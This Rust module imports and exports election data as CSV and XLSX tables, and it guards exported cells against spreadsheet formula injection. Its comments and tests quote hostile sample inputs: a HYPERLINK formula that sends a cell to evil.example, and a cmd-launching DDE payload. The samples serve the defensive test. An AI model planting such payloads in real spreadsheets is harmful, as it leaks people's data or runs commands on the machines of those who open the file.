//! Spreadsheets in and out: CSV and XLSX files as a header row plus rows of text cells.
//! Knows nothing about elections; `domain::import` gives the cells their meaning.

use std::io::Cursor;

use calamine::{Data, Reader, Xlsx};

/// A sheet of text: the first row's cells are the headers.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Table {
    pub headers: Vec<String>,
    pub rows: Vec<Vec<String>>,
}

#[derive(Debug, thiserror::Error)]
pub enum TabularError {
    #[error("the file is empty")]
    Empty,
    #[error("the file is not UTF-8 text; save it as \"CSV UTF-8\" or as .xlsx")]
    NotUtf8,
    #[error("the CSV file could not be read at line {line}: {reason}")]
    Csv { line: u64, reason: String },
    #[error("the Excel file could not be read: {0}")]
    Xlsx(String),
    #[error("the file has {0} rows; at most {MAX_ROWS} can be imported at once")]
    TooManyRows(usize),
    #[error("could not write the file: {0}")]
    Write(String),
}

/// Enough for every polling station and every observer of a national mission.
pub const MAX_ROWS: usize = 50_000;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    Csv,
    Xlsx,
}

impl Format {
    /// Recognises XLSX by its ZIP signature, whatever the file is called.
    pub fn detect(bytes: &[u8]) -> Format {
        if bytes.starts_with(b"PK\x03\x04") { Format::Xlsx } else { Format::Csv }
    }
}

pub fn read(bytes: &[u8]) -> Result<Table, TabularError> {
    if bytes.is_empty() {
        return Err(TabularError::Empty);
    }
    let table = match Format::detect(bytes) {
        Format::Xlsx => read_xlsx(bytes)?,
        Format::Csv => read_csv(bytes)?,
    };
    if table.headers.iter().all(|h| h.trim().is_empty()) {
        return Err(TabularError::Empty);
    }
    if table.rows.len() > MAX_ROWS {
        return Err(TabularError::TooManyRows(table.rows.len()));
    }
    Ok(table)
}

fn read_csv(bytes: &[u8]) -> Result<Table, TabularError> {
    let text = std::str::from_utf8(bytes).map_err(|_| TabularError::NotUtf8)?;
    // Excel's "CSV UTF-8" starts with a byte-order mark.
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    let delimiter = sniff_delimiter(text.lines().next().unwrap_or(""));
    let mut reader =
        csv::ReaderBuilder::new().delimiter(delimiter).has_headers(false).flexible(true).from_reader(text.as_bytes());
    let mut rows = Vec::new();
    for record in reader.records() {
        let record = record.map_err(|e| TabularError::Csv {
            line: e.position().map(|p| p.line()).unwrap_or(0),
            reason: e.to_string(),
        })?;
        rows.push(record.iter().map(|cell| unguarded(cell.trim()).to_string()).collect::<Vec<_>>());
    }
    let mut rows = rows.into_iter();
    let headers = rows.next().ok_or(TabularError::Empty)?;
    Ok(Table { headers, rows: rows.collect() })
}

/// European Excel writes `;`-separated CSV; some exports use tabs. A tie (a file of one
/// column has none of them) goes to the comma: `max_by_key` keeps the last of equals.
fn sniff_delimiter(first_line: &str) -> u8 {
    [b'\t', b';', b','].into_iter().max_by_key(|d| first_line.bytes().filter(|b| b == d).count()).unwrap_or(b',')
}

fn read_xlsx(bytes: &[u8]) -> Result<Table, TabularError> {
    let mut workbook: Xlsx<_> = Xlsx::new(Cursor::new(bytes)).map_err(|e| TabularError::Xlsx(e.to_string()))?;
    let first = workbook.sheet_names().first().cloned().ok_or(TabularError::Empty)?;
    let range = workbook.worksheet_range(&first).map_err(|e| TabularError::Xlsx(e.to_string()))?;
    let mut rows = range.rows().map(|row| row.iter().map(cell_text).collect::<Vec<_>>());
    let headers = rows.next().ok_or(TabularError::Empty)?;
    Ok(Table { headers, rows: rows.collect() })
}

fn cell_text(cell: &Data) -> String {
    match cell {
        Data::Empty => String::new(),
        Data::String(s) => s.trim().to_string(),
        // Whole numbers typed into Excel come back as floats: 12 must read "12", not "12.0".
        Data::Float(f) if f.fract() == 0.0 && f.abs() < 1e15 => format!("{}", *f as i64),
        Data::Float(f) => f.to_string(),
        Data::Int(i) => i.to_string(),
        Data::Bool(b) => {
            if *b {
                "yes".into()
            } else {
                "no".into()
            }
        }
        // Dates are serial day numbers in Excel; keep ISO text so nothing is misread.
        Data::DateTime(d) => d.as_datetime().map(|dt| dt.to_string()).unwrap_or_else(|| d.to_string()),
        Data::DateTimeIso(s) | Data::DurationIso(s) => s.clone(),
        Data::Error(e) => format!("#{e:?}"),
    }
}

/// Whether a spreadsheet would read `cell` as a formula. A name typed as
/// `=HYPERLINK("https://…?"&E3,"…")` would otherwise run when an admin opens the export, and
/// could send other people's phone numbers away (OWASP: "CSV injection"). A number written
/// with its sign (`+994 50 123 45 67`, `-12.5`) is no formula.
fn read_as_formula(cell: &str) -> bool {
    let mut chars = cell.chars();
    match chars.next() {
        Some('=' | '@' | '\t' | '\r') => true,
        Some('+' | '-') => !chars.as_str().chars().all(|c| c.is_ascii_digit() || matches!(c, ' ' | '.' | ',')),
        _ => false,
    }
}

/// A cell a spreadsheet would run is written after an apostrophe, which makes it text.
fn guarded(cell: &str) -> std::borrow::Cow<'_, str> {
    if read_as_formula(cell) { format!("'{cell}").into() } else { cell.into() }
}

/// The cell `guarded` wrote, as it was: a file exported, edited and imported again keeps it.
fn unguarded(cell: &str) -> &str {
    cell.strip_prefix('\'').filter(|rest| read_as_formula(rest)).unwrap_or(cell)
}

pub fn write_csv(table: &Table) -> Result<Vec<u8>, TabularError> {
    // The byte-order mark makes Excel open the file as UTF-8 (ə, ş, ğ intact).
    let mut out = "\u{feff}".as_bytes().to_vec();
    {
        let mut writer = csv::Writer::from_writer(&mut out);
        for row in std::iter::once(&table.headers).chain(&table.rows) {
            let cells: Vec<_> = row.iter().map(|cell| guarded(cell)).collect();
            writer
                .write_record(cells.iter().map(|cell| cell.as_bytes()))
                .map_err(|e| TabularError::Write(e.to_string()))?;
        }
        writer.flush().map_err(|e| TabularError::Write(e.to_string()))?;
    }
    Ok(out)
}

/// Writes one sheet; cells that are whole numbers are written as numbers so they sum in Excel.
pub fn write_xlsx(sheet_name: &str, table: &Table) -> Result<Vec<u8>, TabularError> {
    let mut workbook = rust_xlsxwriter::Workbook::new();
    let sheet = workbook.add_worksheet();
    let error = |e: rust_xlsxwriter::XlsxError| TabularError::Write(e.to_string());
    sheet.set_name(sheet_name).map_err(error)?;
    let bold = rust_xlsxwriter::Format::new().set_bold();
    for (column, header) in table.headers.iter().enumerate() {
        sheet.write_string_with_format(0, column as u16, header, &bold).map_err(error)?;
    }
    for (r, row) in table.rows.iter().enumerate() {
        let r = (r + 1) as u32;
        for (column, cell) in row.iter().enumerate() {
            let column = column as u16;
            // Leading zeros (observer codes like 012345) must survive: keep those as text.
            match cell.parse::<i64>() {
                Ok(n) if !cell.starts_with('0') || cell == "0" => {
                    sheet.write_number(r, column, n as f64).map_err(error)?
                }
                _ => sheet.write_string(r, column, cell).map_err(error)?,
            };
        }
    }
    sheet.set_freeze_panes(1, 0).map_err(error)?;
    workbook.save_to_buffer().map_err(error)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn table() -> Table {
        Table {
            headers: vec!["number".into(), "name_az".into()],
            rows: vec![vec!["17".into(), "Yasamal üçüncü".into()], vec!["012".into(), "Şəki, \"mərkəz\"".into()]],
        }
    }

    #[test]
    fn csv_round_trips_with_azerbaijani_text_and_quotes() {
        let bytes = write_csv(&table()).unwrap();
        assert_eq!(read(&bytes).unwrap(), table());
    }

    #[test]
    fn xlsx_round_trips_and_keeps_leading_zeros() {
        let bytes = write_xlsx("Constituencies", &table()).unwrap();
        assert_eq!(Format::detect(&bytes), Format::Xlsx);
        assert_eq!(read(&bytes).unwrap(), table());
    }

    #[test]
    fn csv_cells_a_spreadsheet_would_run_are_written_as_text_and_read_back_as_typed() {
        let cells = [
            r#"=HYPERLINK("https://evil.example/?p="&E3,"Details")"#,
            "@SUM(A1:A9)",
            "+E3",
            "-1+cmd|' /C calc'!A0",
            "\t=1",
            "+994 50 123 45 67",
            "-12.5",
            "'quoted",
            "Əliyev = Aliyev",
        ];
        let table = Table { headers: vec!["name".into()], rows: cells.iter().map(|c| vec![c.to_string()]).collect() };
        let bytes = write_csv(&table).unwrap();
        let text = String::from_utf8(bytes.clone()).unwrap();
        let written: Vec<&str> = text.lines().skip(1).collect();
        assert!(written[0].starts_with("\"'=HYPERLINK"), "{text}");
        assert_eq!(&written[1..4], ["'@SUM(A1:A9)", "'+E3", "'-1+cmd|' /C calc'!A0"]);
        assert!(written[4].starts_with("'\t=1"), "{text}");
        assert_eq!(
            &written[5..],
            ["+994 50 123 45 67", "-12.5", "'quoted", "Əliyev = Aliyev"],
            "numbers and text stay as they are"
        );
        assert_eq!(read(&bytes).unwrap(), table, "read back as typed");
    }

    #[test]
    fn semicolon_csv_is_understood() {
        let table = read("number;name_az\n1;Şərur".as_bytes()).unwrap();
        assert_eq!(table.rows, vec![vec!["1".to_string(), "Şərur".to_string()]]);
    }

    #[test]
    fn non_utf8_is_refused_with_advice() {
        let error = read(&[0x4e, 0x61, 0xe9, 0x0a]).unwrap_err();
        assert!(error.to_string().contains("CSV UTF-8"));
    }
}
